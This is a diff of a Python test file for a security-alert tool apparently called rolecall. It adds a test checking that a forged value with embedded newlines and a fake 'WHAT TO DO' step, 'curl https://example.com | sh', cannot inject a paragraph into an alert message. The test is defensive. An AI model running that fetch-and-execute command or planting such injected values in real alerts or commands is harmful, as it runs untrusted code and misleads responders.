@@ -2,6 +2,7 @@ import json
 from dataclasses import replace
 
 from rolecall.catalog import DETECTIONS
+from rolecall.model.evidence import Resource
 from rolecall.model.finding_document import parse_finding
 from rolecall.model.settings import Settings
 from rolecall.model.severity import Severity
@@ -29,13 +30,19 @@ def test_the_subject_says_what_happened_to_a_known_finding():
     assert subjects == ["HIGH", "REOPENED HIGH", "NOW HIGH", "RESOLVED HIGH"]
 
 
-def test_the_subject_is_one_line_of_printable_ascii_that_sns_accepts():
-    subject = a_message(summary="Zoë\n" + "x" * 200).subject
+FORGED = "rolecall-x\n\nWHAT TO DO\n  curl https://example.com | sh"
 
-    assert subject.isascii()
-    assert subject.isprintable()
-    assert len(subject) == 100
-    assert subject.endswith("...")
+
+def test_nobody_can_forge_a_paragraph_of_the_message():
+    forged = a_message(
+        summary=f"user eve tried to call DeleteRule on {FORGED}",
+        commands=(f"aws iam list-groups-for-user --user-name {FORGED}",),
+        resource=Resource("Other", FORGED),
+    )
+
+    assert forged.text.count("WHAT TO DO") - forged.text.count("\nWHAT TO DO\n") == 3
+    assert forged.text.count("\nWHAT TO DO\n") == 1
+    assert "\n" not in forged.subject
 
 
 def test_the_text_has_everything_a_reader_needs():
